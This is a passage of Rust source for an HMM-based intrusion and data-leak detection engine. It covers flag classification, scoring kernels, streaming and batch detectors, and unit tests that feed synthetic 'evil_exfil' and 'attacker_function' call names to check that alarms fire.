                "exact mode attributes the alert's own score"
            );
            assert!(!report.top_deviant.is_empty());
            assert!(report
                .top_deviant
                .windows(2)
                .all(|w| w[0].log_prob <= w[1].log_prob));
            assert_eq!(
                report.alert_delta(),
                Some(alarm.log_likelihood - alarm.threshold)
            );
        }
        // Drained means drained: a second take returns nothing.
        assert!(state.take_forensics().is_empty());
    }

    #[test]
    fn forensics_do_not_change_alerts() {
        let scorer = WindowScorer::new(Arc::new(cyclic_profile()));
        for trace in traces() {
            let mut plain = SessionScorer::new(&scorer, ScoringMode::ExactWindows);
            let mut armed = SessionScorer::new(&scorer, ScoringMode::ExactWindows)
                .with_forensics(ForensicsConfig::default());
            let mut expected: Vec<Alert> = trace
                .iter()
                .filter_map(|e| plain.push(&scorer, e, ""))
                .collect();
            expected.extend(plain.finalize(&scorer, ""));
            let mut got: Vec<Alert> = trace
                .iter()
                .filter_map(|e| armed.push(&scorer, e, ""))
                .collect();
            got.extend(armed.finalize(&scorer, ""));
            assert_eq!(format!("{expected:?}"), format!("{got:?}"));
        }
    }

    #[test]
    fn full_tier_armed_session_is_bit_identical_to_unarmed_baseline() {
        // Arming the ladder installs the beam *suspended*: as long as the
        // session holds the full tier, nothing is ever pruned, the gap
        // bound stays zero, and every alert is bit-identical to the
        // unarmed incremental baseline — even with an aggressive beam.
        let scorer = WindowScorer::new(Arc::new(cyclic_profile())).with_kernel_validated(
            KernelConfig::Sparse {
                sparse: adprom_hmm::SparseConfig::default(),
            },
        );
        let beam = BeamConfig {
            top_k: Some(1),
            mass_epsilon: 0.0,
        };
        for (i, trace) in traces().iter().enumerate() {
            let mut plain = SessionScorer::new(&scorer, ScoringMode::Incremental);
            let mut armed = SessionScorer::new(&scorer, ScoringMode::Incremental)
                .with_tier_support(&scorer, beam, 4);
            assert_eq!(armed.tier(), ScoringTier::Full);
            let mut expected: Vec<Alert> = trace
                .iter()
                .filter_map(|e| plain.push(&scorer, e, ""))
                .collect();
            expected.extend(plain.finalize(&scorer, ""));
            let mut got: Vec<Alert> = trace
                .iter()
                .filter_map(|e| armed.push(&scorer, e, ""))
                .collect();
            got.extend(armed.finalize(&scorer, ""));
            assert_eq!(
                format!("{expected:?}"),
                format!("{got:?}"),
                "trace {i}: full tier must not perturb the baseline"
            );
            assert_eq!(armed.gap_bound(), 0.0, "trace {i}: beam never engaged");
        }
    }

    #[test]
    fn spot_tier_skips_provably_normal_windows_and_carries_the_verdict() {
        let registry = Registry::new();
        let scorer = WindowScorer::new(Arc::new(cyclic_profile())).with_registry(&registry);
        let beam = BeamConfig {
            top_k: None,
            mass_epsilon: 0.0,
        };
        let mut state = SessionScorer::new(&scorer, ScoringMode::Incremental)
            .with_tier_support(&scorer, beam, 4);
        state.assign_tier(ScoringTier::SpotCheck);
        assert_eq!(state.carried_verdict(), None, "no window emitted yet");
        // Four benign cycles: 12 events, 10 windows. Only every fourth
        // check emits (windows 4 and 8); the other eight are provably
        // Normal — the exact score is at or above its lower bound, which
        // clears the threshold — and are skipped.
        let trace = trace_from(&[
            "a", "b", "c_Q7", "a", "b", "c_Q7", "a", "b", "c_Q7", "a", "b", "c_Q7",
        ]);
        let alerts: Vec<Alert> = trace
            .iter()
            .filter_map(|e| state.push(&scorer, e, ""))
            .collect();
        assert!(state.finalize(&scorer, "").is_none());
        assert_eq!(alerts.len(), 2, "every fourth window emits");
        assert!(alerts.iter().all(|a| a.flag == Flag::Normal));
        assert_eq!(state.carried_verdict(), Some(Flag::Normal));
        let snap = registry.snapshot();
        assert_eq!(snap.counter("monitor.tier.spot.windows"), Some(2));
        assert_eq!(snap.counter("monitor.tier.spot.skipped"), Some(8));
        assert_eq!(snap.counter("monitor.tier.escalations"), Some(0));
    }

    #[test]
    fn beam_tier_alarm_escalates_back_to_full_and_pins() {
        let registry = Registry::new();
        let scorer = WindowScorer::new(Arc::new(cyclic_profile()))
            .with_kernel_validated(KernelConfig::Sparse {
                sparse: adprom_hmm::SparseConfig::default(),
            })
            .with_registry(&registry);
        let beam = BeamConfig {
            top_k: Some(2),
            mass_epsilon: 0.0,
        };
        let mut state = SessionScorer::new(&scorer, ScoringMode::Incremental)
            .with_tier_support(&scorer, beam, 4);
        state.assign_tier(ScoringTier::BeamPruned);
        assert_eq!(state.tier(), ScoringTier::BeamPruned);
        // The exfiltration window alarms under the demoted tier: the
        // session must escalate itself back to full scoring.
        let attack = trace_from(&["a", "evil_exfil", "c_Q7", "a"]);
        let mut alerts: Vec<Alert> = attack
            .iter()
            .filter_map(|e| state.push(&scorer, e, ""))
            .collect();
        alerts.extend(state.finalize(&scorer, ""));
        assert!(
            alerts.iter().any(Alert::is_alarm),
            "the attack still alarms"
        );
        assert!(state.escalations() >= 1);
        assert_eq!(state.tier(), ScoringTier::Full);
        // An alarmed session is pinned: a later demotion is a no-op.
        state.assign_tier(ScoringTier::SpotCheck);
        assert_eq!(state.tier(), ScoringTier::Full);
        let snap = registry.snapshot();
        assert!(snap.counter("monitor.tier.escalations").unwrap() >= 1);
        // Every alarm carries a tier stamp, in emit order.
        let stamps = state.take_tier_stamps();
        assert_eq!(stamps.len(), alerts.iter().filter(|a| a.is_alarm()).count());
        assert_eq!(stamps[0].tier, ScoringTier::BeamPruned);
        assert_eq!(
            stamps[0].escalation.as_deref(),
            Some("alarm raised below full tier")
        );
        assert!(state.take_tier_stamps().is_empty(), "drained means drained");
    }

    #[test]
    fn kernel_status_reports_requested_and_effective() {
        let healthy = WindowScorer::new(Arc::new(cyclic_profile())).with_kernel_validated(
            KernelConfig::Sparse {
                sparse: adprom_hmm::SparseConfig::default(),
            },
        );
        assert_eq!(healthy.status().requested, "sparse");
        assert_eq!(healthy.status().effective, "sparse");
        assert!(!healthy.status().fell_back());

        let mut poisoned = cyclic_profile();
        poisoned.hmm.a_row_mut(0)[0] += 0.25;
        let degraded =
            WindowScorer::new(Arc::new(poisoned)).with_kernel_validated(KernelConfig::Sparse {
                sparse: adprom_hmm::SparseConfig::default(),
            });
        assert_eq!(degraded.status().requested, "sparse");
        assert_eq!(degraded.status().effective, "dense");
        assert!(degraded.status().fell_back());
        assert!(degraded
            .status()
            .fallback_reason
            .as_deref()
            .unwrap()
            .contains("CSR validation"));
    }
}
