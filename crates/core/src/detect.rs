//! The Detection Engine (§IV-B4, §IV-D): scores n-length call sequences
//! against the profile and raises flags.
//!
//! Flags, in the paper's order (§V-C):
//!
//! 1. **OutOfContext** — a call issued by a function that never issued it
//!    during training (a new call inserted in a function);
//! 2. **DataLeak** — an anomalous sequence containing a DDG-labeled output
//!    call (`*_Q<bid>`), i.e. targeted data flowed to an output statement
//!    along an unlikely path — the alert carries the label, *connecting the
//!    activity to its source*;
//! 3. **Anomalous** — an unlikely sequence without labeled output calls;
//! 4. **Normal** — everything else.
//!
//! Both types in this module — the whole-trace [`DetectionEngine`] and the
//! streaming [`OnlineDetector`] — are thin shells over the shared scoring
//! core, [`crate::scorer::WindowScorer`]; so is
//! [`BatchDetector`](crate::parallel::BatchDetector). There is exactly one
//! forward-scoring / classification / observation path in the crate.

use crate::profile::Profile;
use crate::scorer::{KernelStatus, ScoringMode, SessionScorer, WindowScorer};
use crate::telemetry::DetectMetrics;
use adprom_hmm::{BeamConfig, SparseConfig, SparseTransitions};
use adprom_obs::{AuditLog, Registry};
use adprom_trace::{CallEvent, CallSink};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::Arc;

/// Detection flags (§V-C).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Flag {
    /// Sequence consistent with the profile.
    Normal,
    /// Unlikely sequence with no labeled output call.
    Anomalous,
    /// Unlikely sequence containing a labeled output call: a potential
    /// data-leak attempt, connected to its source via the label.
    DataLeak,
    /// A call issued from a caller never seen issuing it.
    OutOfContext,
}

impl Flag {
    /// The pure flag-precedence rule (§V-C), shared by every scoring path
    /// — [`DetectionEngine::classify`], the incremental batch scanner, and
    /// anything else that already knows the per-window facts:
    ///
    /// 1. `out_of_context` wins outright (structural, likelihood-blind);
    /// 2. below-threshold windows are [`Flag::DataLeak`] when a
    ///    DDG-labeled output call is present, else [`Flag::Anomalous`];
    /// 3. everything else is [`Flag::Normal`].
    ///
    /// `ll = NaN` never compares below the threshold, so an undefined
    /// score degrades to Normal rather than a spurious alarm.
    pub fn classify(
        ll: f64,
        threshold: f64,
        has_labeled_output: bool,
        out_of_context: bool,
    ) -> Flag {
        if out_of_context {
            Flag::OutOfContext
        } else if ll < threshold {
            if has_labeled_output {
                Flag::DataLeak
            } else {
                Flag::Anomalous
            }
        } else {
            Flag::Normal
        }
    }
}

impl fmt::Display for Flag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Flag::Normal => "NORMAL",
            Flag::Anomalous => "ANOMALOUS",
            Flag::DataLeak => "DATA-LEAK",
            Flag::OutOfContext => "OUT-OF-CONTEXT",
        };
        f.write_str(s)
    }
}

/// Which scoring kernel a [`DetectionEngine`] (or
/// [`BatchDetector`](crate::parallel::BatchDetector)) runs per window.
///
/// `Sparse` with `epsilon = 0` and `Beam` off is *exact*: on smoothed
/// profiles it produces bit-identical log-likelihoods to `Dense` in
/// O(nnz + N) per event instead of O(N²) (see [`adprom_hmm::sparse`]).
/// `Beam` additionally prunes the α vector per step — scores become lower
/// bounds on the exact value, with the per-window gap bounded by the
/// `beam.gap_bound_micronats_max` gauge.
#[derive(Debug, Clone, Copy, Default)]
pub enum KernelConfig {
    /// The dense O(N²)-per-event forward pass (the default).
    #[default]
    Dense,
    /// The sparse CSR kernel — exact at `epsilon = 0` on smoothed models.
    Sparse {
        /// CSR construction parameters (fold epsilon, density cutoff).
        sparse: SparseConfig,
    },
    /// The sparse kernel plus beam pruning of α: approximate scores with a
    /// tracked, sound error bound.
    Beam {
        /// CSR construction parameters.
        sparse: SparseConfig,
        /// Pruning policy (top-k and/or mass threshold).
        beam: BeamConfig,
    },
}

impl KernelConfig {
    /// Short name for metrics and audit records: `dense`, `sparse`, or
    /// `beam`.
    pub fn label(&self) -> &'static str {
        match self {
            KernelConfig::Dense => "dense",
            KernelConfig::Sparse { .. } => "sparse",
            KernelConfig::Beam { .. } => "beam",
        }
    }
}

/// A [`KernelConfig`] resolved against a concrete profile: the CSR
/// decomposition is built once and shared (`Arc`) by every scorer using
/// it — batch workers clone the handle, not the matrix.
#[derive(Debug, Clone, Default)]
pub(crate) enum KernelState {
    /// Dense forward pass.
    #[default]
    Dense,
    /// Exact sparse scoring through a shared CSR kernel.
    Sparse(Arc<SparseTransitions>),
    /// Sparse scoring with beam pruning.
    Beam(Arc<SparseTransitions>, BeamConfig),
}

impl KernelState {
    /// Builds the state for `config`, constructing the CSR kernel from
    /// `profile`'s transition matrix when one is needed.
    pub(crate) fn build(config: KernelConfig, profile: &Profile) -> KernelState {
        match config {
            KernelConfig::Dense => KernelState::Dense,
            KernelConfig::Sparse { sparse } => {
                KernelState::Sparse(Arc::new(SparseTransitions::from_hmm(&profile.hmm, &sparse)))
            }
            KernelConfig::Beam { sparse, beam } => KernelState::Beam(
                Arc::new(SparseTransitions::from_hmm(&profile.hmm, &sparse)),
                beam,
            ),
        }
    }

    /// [`KernelState::build`] with CSR validation: the profile's model is
    /// checked (finite, row-stochastic) before building, and the built
    /// decomposition self-checks its structure. `Err` carries the reason;
    /// resilience-aware callers (the batch detector, the profile
    /// registry) downgrade to the dense kernel instead of scoring through
    /// a corrupt CSR — and since validation failure means the sparse
    /// kernel was never built, the degraded mode *is* the dense kernel,
    /// bit-exactly.
    pub(crate) fn build_validated(
        config: KernelConfig,
        profile: &Profile,
    ) -> Result<KernelState, adprom_hmm::HmmError> {
        match config {
            KernelConfig::Dense => Ok(KernelState::Dense),
            KernelConfig::Sparse { sparse } => Ok(KernelState::Sparse(Arc::new(
                SparseTransitions::try_from_hmm(&profile.hmm, &sparse)?,
            ))),
            KernelConfig::Beam { sparse, beam } => Ok(KernelState::Beam(
                Arc::new(SparseTransitions::try_from_hmm(&profile.hmm, &sparse)?),
                beam,
            )),
        }
    }
}

/// An alert raised for one window.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    /// The flag.
    pub flag: Flag,
    /// `log P(cs | λ)` of the window.
    pub log_likelihood: f64,
    /// Threshold in force when the window was scored.
    pub threshold: f64,
    /// The call names of the window.
    pub window: Vec<String>,
    /// Human-readable detail: the leak label and source connection, or the
    /// out-of-context (call, caller) pair.
    pub detail: String,
}

impl Alert {
    /// True for any non-normal flag.
    pub fn is_alarm(&self) -> bool {
        self.flag != Flag::Normal
    }
}

/// Scores windows against a profile — the serial, whole-trace front end of
/// the shared [`WindowScorer`] core.
#[derive(Debug, Clone)]
pub struct DetectionEngine {
    scorer: WindowScorer,
    /// Session id stamped on audit records (empty when unknown).
    session: String,
}

impl DetectionEngine {
    /// Creates an engine over a profile (cloned behind an `Arc`).
    /// Instrumentation starts disabled. When the profile is already
    /// shared, prefer [`DetectionEngine::from_arc`] — it reuses the
    /// allocation.
    pub fn new(profile: &Profile) -> DetectionEngine {
        DetectionEngine::from_arc(Arc::new(profile.clone()))
    }

    /// Creates an engine over an already-shared profile.
    pub fn from_arc(profile: Arc<Profile>) -> DetectionEngine {
        DetectionEngine {
            scorer: WindowScorer::new(profile),
            session: String::new(),
        }
    }

    /// Creates an engine directly over a prepared scorer — the path the
    /// registry uses so engines share an epoch's CSR decomposition.
    pub fn from_scorer(scorer: WindowScorer) -> DetectionEngine {
        DetectionEngine {
            scorer,
            session: String::new(),
        }
    }

    /// Selects the scoring kernel, building the CSR decomposition from the
    /// profile when `config` needs one. With [`KernelConfig::Sparse`] at
    /// `epsilon = 0` the engine's scores (and therefore its alerts) are
    /// bit-identical to the dense default on smoothed profiles.
    pub fn with_kernel(mut self, config: KernelConfig) -> DetectionEngine {
        self.scorer = self.scorer.with_kernel(config);
        self
    }

    /// Selects the scoring precision (see
    /// [`WindowScorer::with_precision`]): `F32Verified` scores sparse
    /// windows in f32 and rescores anything within the guard band of the
    /// threshold in f64, so flags match the pure-f64 engine.
    pub fn with_precision(mut self, precision: adprom_hmm::Precision) -> DetectionEngine {
        self.scorer = self.scorer.with_precision(precision);
        self
    }

    /// Registers metric handles against `registry` (window counts, flag
    /// counters, score latency).
    pub fn with_registry(mut self, registry: &Registry) -> DetectionEngine {
        self.scorer = self.scorer.with_registry(registry);
        self
    }

    /// Installs pre-fetched metric handles — the zero-registration-lock
    /// path batch workers use.
    pub fn with_metrics(mut self, metrics: DetectMetrics) -> DetectionEngine {
        self.scorer = self.scorer.with_metrics(metrics);
        self
    }

    /// Routes every non-Normal detection to `audit` as a JSONL-ready
    /// [`adprom_obs::AuditRecord`].
    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> DetectionEngine {
        self.scorer = self.scorer.with_audit(audit);
        self
    }

    /// Sets the session id stamped on audit records.
    pub fn set_session(&mut self, session: &str) {
        self.session = session.to_string();
    }

    /// The profile in use.
    pub fn profile(&self) -> &Profile {
        self.scorer.profile()
    }

    /// Overrides the detection threshold.
    pub fn set_threshold(&mut self, threshold: f64) {
        self.scorer.set_threshold(threshold);
    }

    /// The active threshold.
    pub fn threshold(&self) -> f64 {
        self.scorer.threshold()
    }

    /// Short name of the active scoring kernel (`dense`, `sparse`, or
    /// `beam`) — stamped on audit records.
    pub fn kernel_label(&self) -> &str {
        &self.scorer.status().effective
    }

    /// Requested/effective kernel and the downgrade reason, if any.
    pub fn kernel_status(&self) -> &KernelStatus {
        self.scorer.status()
    }

    /// The shared scoring core this engine fronts.
    pub fn scorer(&self) -> &WindowScorer {
        &self.scorer
    }

    /// `log P(window | λ)` for a window of call names, computed by the
    /// configured kernel.
    pub fn score(&self, names: &[String]) -> f64 {
        self.scorer.score(names)
    }

    /// Classifies one window of events.
    pub fn classify(&self, events: &[CallEvent]) -> Alert {
        self.scorer.classify(events, &self.session)
    }

    /// Classifies a window whose log-likelihood was computed externally —
    /// the hook for reusing the flag logic with
    /// [`adprom_hmm::SlidingForward`] scores instead of a full per-window
    /// forward pass.
    pub fn classify_with_ll(&self, events: &[CallEvent], log_likelihood: f64) -> Alert {
        self.scorer
            .classify_with_ll(events, log_likelihood, &self.session)
    }

    /// Feeds a finished alert through the instrumentation — the window
    /// counter, its flag-kind counter, and (for non-Normal alerts) the
    /// audit log — and returns it unchanged.
    pub fn observe(&self, alert: Alert) -> Alert {
        self.scorer.observe(alert, &self.session)
    }

    /// Scans a whole trace with sliding windows; returns one alert per
    /// window. Alerts are identical to classifying each window
    /// independently.
    pub fn scan(&self, events: &[CallEvent]) -> Vec<Alert> {
        self.scorer.scan(events, &self.session)
    }

    /// Highest-severity flag over a whole trace (severity order:
    /// OutOfContext > DataLeak > Anomalous > Normal).
    pub fn verdict(&self, events: &[CallEvent]) -> Flag {
        self.scan(events)
            .into_iter()
            .map(|a| a.flag)
            .max()
            .unwrap_or(Flag::Normal)
    }
}

/// A streaming detector: plug it in as the interpreter's [`CallSink`] and
/// it classifies each n-window as calls arrive — the §IV-D online workflow
/// where "the Calls Collector sends n-length call sequences (the last call
/// and the n−1 past calls) to the Detection Engine".
///
/// Shares the profile behind an `Arc` and has full kernel / metrics /
/// audit parity with the batch paths: the same [`WindowScorer`] scores
/// every window, the same `detect.*` counters tick, and non-Normal
/// windows reach the audit log with the configured session id.
#[derive(Debug, Clone)]
pub struct OnlineDetector {
    scorer: WindowScorer,
    state: SessionScorer,
    session: String,
    alerts: Vec<Alert>,
}

impl OnlineDetector {
    /// Creates a streaming detector over a shared profile (a bare
    /// [`Profile`] converts too). Exact per-window scoring; ramp-up —
    /// windows are classified once `window` events arrived.
    pub fn new(profile: impl Into<Arc<Profile>>) -> OnlineDetector {
        let scorer = WindowScorer::new(profile.into());
        let state = SessionScorer::new(&scorer, ScoringMode::ExactWindows);
        OnlineDetector {
            scorer,
            state,
            session: String::new(),
            alerts: Vec::new(),
        }
    }

    /// Switches the scoring mode (exact per-window forward vs incremental
    /// sliding scoring). Resets streaming state; call before feeding
    /// events.
    pub fn with_mode(mut self, mode: ScoringMode) -> OnlineDetector {
        self.state = SessionScorer::new(&self.scorer, mode);
        self
    }

    /// Selects the scoring kernel (validated; degrades to dense on a
    /// corrupt model, with the reason in
    /// [`OnlineDetector::kernel_status`]).
    pub fn with_kernel(mut self, config: KernelConfig) -> OnlineDetector {
        let mode = self.state.mode();
        self.scorer = self.scorer.with_kernel_validated(config);
        self.state = SessionScorer::new(&self.scorer, mode);
        self
    }

    /// Selects the scoring precision (see
    /// [`WindowScorer::with_precision`]).
    pub fn with_precision(mut self, precision: adprom_hmm::Precision) -> OnlineDetector {
        self.scorer = self.scorer.with_precision(precision);
        self
    }

    /// Registers metric handles against `registry`.
    pub fn with_registry(mut self, registry: &Registry) -> OnlineDetector {
        self.scorer = self.scorer.with_registry(registry);
        self
    }

    /// Routes every non-Normal detection to `audit`, stamped with the
    /// session id.
    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> OnlineDetector {
        self.scorer = self.scorer.with_audit(audit);
        self
    }

    /// Sets the session id stamped on audit records.
    pub fn set_session(&mut self, session: &str) {
        self.session = session.to_string();
    }

    /// Requested/effective kernel and the downgrade reason, if any.
    pub fn kernel_status(&self) -> &KernelStatus {
        self.scorer.status()
    }

    /// Alerts raised so far (one per full window seen).
    pub fn alerts(&self) -> &[Alert] {
        &self.alerts
    }

    /// Alarms only (non-normal alerts).
    pub fn alarms(&self) -> Vec<&Alert> {
        self.alerts.iter().filter(|a| a.is_alarm()).collect()
    }

    /// Closes the stream: a session shorter than one window emits its
    /// single short-window alert now (matching
    /// [`DetectionEngine::scan`]'s `len ≤ n` behavior). Returns the alert
    /// if one was emitted.
    pub fn finish(&mut self) -> Option<Alert> {
        let alert = self.state.finalize(&self.scorer, &self.session);
        if let Some(alert) = &alert {
            self.alerts.push(alert.clone());
        }
        alert
    }
}

impl CallSink for OnlineDetector {
    fn on_call(&mut self, event: CallEvent) {
        if let Some(alert) = self.state.push(&self.scorer, &event, &self.session) {
            self.alerts.push(alert);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: caller.into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    /// A profile whose model strongly expects the cycle a→b→c.
    fn cyclic_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: "cyclic".into(),
            alphabet,
            hmm,
            window: 3,
            threshold: -5.0,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    #[test]
    fn normal_window_passes() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
        ];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::Normal, "{alert:?}");
    }

    #[test]
    fn unknown_call_window_is_flagged_as_leak_when_labeled_output_present() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("evil_exfil", "main"),
            event("c_Q7", "main"),
        ];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::DataLeak);
        assert!(alert.detail.contains("c_Q7"));
    }

    #[test]
    fn unlikely_order_without_label_is_anomalous() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![event("b", "main"), event("a", "main"), event("a", "main")];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::Anomalous, "ll={}", alert.log_likelihood);
    }

    #[test]
    fn out_of_context_caller_is_flagged() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("b", "attacker_function"),
            event("c_Q7", "main"),
        ];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::OutOfContext);
        assert!(alert.detail.contains("attacker_function"));
    }

    #[test]
    fn verdict_takes_max_severity() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
            event("a", "main"),
            event("b", "attacker_function"),
            event("c_Q7", "main"),
        ];
        assert_eq!(engine.verdict(&events), Flag::OutOfContext);
    }

    #[test]
    fn online_detector_streams_windows() {
        let profile = cyclic_profile();
        let mut online = OnlineDetector::new(profile);
        for name in ["a", "b", "c_Q7", "a", "b", "c_Q7"] {
            online.on_call(event(name, "main"));
        }
        // Windows start once 3 events arrived: 4 windows total.
        assert_eq!(online.alerts().len(), 4);
        assert!(online.alarms().is_empty());
        // A full-length stream has nothing left to emit at close.
        assert_eq!(online.finish(), None);
    }

    #[test]
    fn online_detector_matches_engine_scan_windows() {
        // The streaming path and the whole-trace scan produce bit-identical
        // alerts — both are the same WindowScorer underneath.
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        for trace in [
            vec!["a", "b", "c_Q7", "a", "evil_exfil", "c_Q7", "b", "a"],
            vec!["a", "b"], // shorter than one window
            vec!["b", "a", "a"],
        ] {
            let events: Vec<CallEvent> = trace.iter().map(|n| event(n, "main")).collect();
            let mut online = OnlineDetector::new(profile.clone());
            for e in &events {
                online.on_call(e.clone());
            }
            online.finish();
            assert_eq!(
                format!("{:?}", engine.scan(&events)),
                format!("{:?}", online.alerts()),
                "trace {trace:?}"
            );
        }
    }

    #[test]
    fn online_detector_has_metrics_and_audit_parity() {
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
        let mut online = OnlineDetector::new(profile)
            .with_kernel(KernelConfig::Sparse {
                sparse: SparseConfig::default(),
            })
            .with_registry(&registry)
            .with_audit(audit);
        online.set_session("conn-9");
        assert_eq!(online.kernel_status().effective, "sparse");
        for name in ["a", "evil_exfil", "c_Q7", "a"] {
            online.on_call(event(name, "main"));
        }
        let snap = registry.snapshot();
        assert_eq!(snap.counter("detect.windows_scored"), Some(2));
        // The flagged windows are attributed to the sparse kernel...
        assert_eq!(
            snap.counter("detect.kernel.sparse"),
            Some(online.alarms().len() as u64)
        );
        // ...and audited with the session id.
        let records = sink.records();
        assert_eq!(records.len(), online.alarms().len());
        assert!(records.iter().all(|r| r.session == "conn-9"));
        assert!(records.iter().all(|r| r.kernel == "sparse"));
    }

    #[test]
    fn classify_with_ll_matches_classify_given_same_score() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        for window in [
            vec![
                event("a", "main"),
                event("b", "main"),
                event("c_Q7", "main"),
            ],
            vec![event("b", "main"), event("a", "main"), event("a", "main")],
            vec![
                event("a", "main"),
                event("b", "attacker_function"),
                event("c_Q7", "main"),
            ],
        ] {
            let names: Vec<String> = window.iter().map(|e| e.name.to_string()).collect();
            let ll = engine.score(&names);
            assert_eq!(
                engine.classify(&window),
                engine.classify_with_ll(&window, ll)
            );
        }
    }

    #[test]
    fn flag_classify_covers_every_fact_combination() {
        let th = -5.0;
        // out_of_context wins outright, whatever the score or labels say.
        for ll in [-100.0, th, 0.0, f64::NEG_INFINITY, f64::NAN] {
            for labeled in [false, true] {
                assert_eq!(
                    Flag::classify(ll, th, labeled, true),
                    Flag::OutOfContext,
                    "ll={ll} labeled={labeled}"
                );
            }
        }
        // Below threshold: a labeled output upgrades Anomalous → DataLeak.
        for ll in [-100.0, -5.000001, f64::NEG_INFINITY] {
            assert_eq!(
                Flag::classify(ll, th, true, false),
                Flag::DataLeak,
                "ll={ll}"
            );
            assert_eq!(
                Flag::classify(ll, th, false, false),
                Flag::Anomalous,
                "ll={ll}"
            );
        }
        // At or above threshold: Normal, labels notwithstanding.
        for ll in [th, -1.0, 0.0, f64::INFINITY] {
            for labeled in [false, true] {
                assert_eq!(
                    Flag::classify(ll, th, labeled, false),
                    Flag::Normal,
                    "ll={ll} labeled={labeled}"
                );
            }
        }
        // An undefined score never alarms.
        assert_eq!(Flag::classify(f64::NAN, th, true, false), Flag::Normal);
        assert_eq!(Flag::classify(f64::NAN, th, false, false), Flag::Normal);
    }

    #[test]
    fn flag_classify_agrees_with_classify_scored() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        for window in [
            vec![
                event("a", "main"),
                event("b", "main"),
                event("c_Q7", "main"),
            ],
            vec![event("b", "main"), event("a", "main"), event("a", "main")],
            vec![
                event("a", "main"),
                event("evil_exfil", "main"),
                event("c_Q7", "main"),
            ],
            vec![
                event("a", "main"),
                event("b", "attacker_function"),
                event("c_Q7", "main"),
            ],
        ] {
            let alert = engine.classify(&window);
            let has_label = window.iter().any(|e| e.name.contains("_Q"));
            let ooc = window
                .iter()
                .any(|e| profile.is_out_of_context(&e.name, &e.caller));
            assert_eq!(
                alert.flag,
                Flag::classify(alert.log_likelihood, engine.threshold(), has_label, ooc)
            );
        }
    }

    #[test]
    fn engine_metrics_and_audit_capture_detections() {
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
        let mut engine = DetectionEngine::new(&profile)
            .with_registry(&registry)
            .with_audit(audit);
        engine.set_session("conn-1");
        engine.classify(&[
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
        ]);
        engine.classify(&[
            event("a", "main"),
            event("evil_exfil", "main"),
            event("c_Q7", "main"),
        ]);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("detect.windows_scored"), Some(2));
        assert_eq!(snap.counter("detect.flags.normal"), Some(1));
        assert_eq!(snap.counter("detect.flags.data_leak"), Some(1));
        assert_eq!(snap.histograms["detect.score_ns"].count, 2);
        // Only the non-Normal detection reached the audit trail, with the
        // session id and leak label attached.
        let records = sink.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].session, "conn-1");
        assert_eq!(records[0].flag, "DATA-LEAK");
        assert_eq!(records[0].kernel, "dense");
        assert_eq!(records[0].label.as_deref(), Some("c_Q7"));
        assert_eq!(records[0].bid.as_deref(), Some("7"));
        // The flagged window is attributed to the kernel that scored it.
        assert_eq!(snap.counter("detect.kernel.dense"), Some(1));
        assert_eq!(snap.counter("detect.kernel.sparse"), Some(0));
    }

    #[test]
    fn sparse_kernel_produces_equivalent_alerts() {
        // ε = 0, no beam: the sparse path computes the same quantity as
        // dense (summation order differs, so scores agree to 1e-9 rather
        // than bitwise) — flags, windows and details must be identical.
        let profile = cyclic_profile();
        let dense = DetectionEngine::new(&profile);
        let sparse = DetectionEngine::new(&profile).with_kernel(KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        });
        assert_eq!(sparse.kernel_label(), "sparse");
